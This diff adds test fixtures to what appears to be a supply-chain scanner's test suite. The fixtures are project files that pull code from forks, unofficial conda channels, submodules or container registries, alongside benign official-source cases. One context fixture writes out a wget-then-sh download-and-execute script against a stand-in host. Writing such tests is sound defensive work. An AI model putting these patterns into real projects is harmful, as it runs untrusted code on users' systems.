@@ -169,6 +169,21 @@ ATTACKS: list[tuple[str, dict[str, str], Expected]] = [
     # A shell variable set earlier and used by the download that runs.
     ("shell variable url", {"install.sh": "URL=https://example.invalid/k.run\nwget \"$URL\" -O k.run\nsh k.run\n"},
      _reject("download-and-execute", reason="critical-finding")),
+    # Declarations with no install command in sight (issue 24): the tool that reads the file fetches the source.
+    # pip/uv build the project in an isolated env holding [build-system] requires first.
+    ("build requires fork", {"pyproject.toml": '[project]\nname = "x"\n[build-system]\n'
+                                               'requires = ["setuptools", "h @ git+https://github.com/someone/vllm"]\n'},
+     _reject("forked-code")),
+    # conda env create -f searches the file's channels before the defaults.
+    ("environment channel", {"environment.yml": "name: x\nchannels:\n  - canada-quant\ndependencies:\n  - vllm\n"},
+     _reject("untrusted-package-index")),
+    # git clone --recursive clones every submodule url.
+    ("submodule fork", {".gitmodules": '[submodule "v"]\n\tpath = v\n\turl = https://github.com/someone/vllm.git\n'},
+     _reject("forked-code")),
+    # pyxis hands REGISTRY#IMAGE to enroot: the job runs in that registry's image.
+    ("sbatch pyxis image",
+     {"train.sbatch": "#!/bin/bash\n#SBATCH --container-image=registry.example.invalid\\#t/x:1\n"},
+     _reject("untrusted-container-image")),
 ]
 
 
@@ -209,6 +224,12 @@ BENIGN: list[tuple[str, dict[str, str], Expected]] = [
     # Config keys that merely share a name with pip's are not package sources.
     ("yaml index keys", {"config.yaml": "default_index: 0\ntrusted_host: false\n",
                          ".condarc": "channels: [conda-forge, nvidia]\nchannel_priority: strict\n"},
+     Expected(VENDOR, "approve", absent=_RISKY)),
+    # Declarations naming only official sources: conda-forge/nvidia channels, the PyTorch index, Docker Hub library.
+    ("official declarations", {"environment.yml": "name: x\nchannels: [conda-forge, nvidia]\ndependencies: [pip]\n",
+                               "pyproject.toml": ('[[tool.uv.index]]\nname = "pt"\n'
+                                                  'url = "https://download.pytorch.org/whl/cu128"\n'),
+                               "job.slurm": "#SBATCH --container-image=ubuntu:24.04\n"},
      Expected(VENDOR, "approve", absent=_RISKY)),
     # The PyTorch wheel index in pip.conf is an upstream index.
     ("official pip.conf", {"pip.conf": "[global]\nextra-index-url = https://download.pytorch.org/whl/cu128\n"},
